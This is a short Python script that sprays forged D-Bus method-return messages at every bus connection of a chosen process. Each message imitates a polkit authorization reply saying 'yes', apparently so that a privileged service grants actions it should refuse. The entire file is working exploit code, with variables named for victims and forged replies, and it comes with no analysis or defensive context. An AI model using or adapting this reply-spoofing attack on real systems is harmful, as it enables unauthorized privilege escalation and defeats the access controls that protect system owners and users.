#!/usr/bin/python3
"""answer.py PID MOST: tells a process, on each of its connections to the bus, that polkit has said yes, in answer to each
of its first MOST messages there."""

import sys

from gi.repository import Gio, GLib

bus = Gio.bus_get_sync(Gio.BusType.SYSTEM, None)


def driver(method, *arguments):
    body = GLib.Variant("(s)", arguments) if arguments else None
    return bus.call_sync("org.freedesktop.DBus", "/", "org.freedesktop.DBus", method, body, None, 0, -1, None).unpack()[0]


def process(name):
    try:
        return driver("GetConnectionUnixProcessID", name)
    except GLib.Error:
        return 0


victims = [name for name in driver("ListNames") if name.startswith(":") and process(name) == int(sys.argv[1])]
for victim in victims:
    for serial in range(1, int(sys.argv[2]) + 1):
        forged = Gio.DBusMessage.new()
        forged.set_message_type(Gio.DBusMessageType.METHOD_RETURN)
        forged.set_destination(victim)
        forged.set_reply_serial(serial)
        forged.set_flags(Gio.DBusMessageFlags.NO_REPLY_EXPECTED)
        forged.set_body(GLib.Variant("((bba{ss}))", ((True, False, {}),)))
        bus.send_message(forged, Gio.DBusSendMessageFlags.NONE)
    bus.flush_sync(None)
driver("GetId")
print(sys.argv[2], "answers to each of", len(victims), "connections")
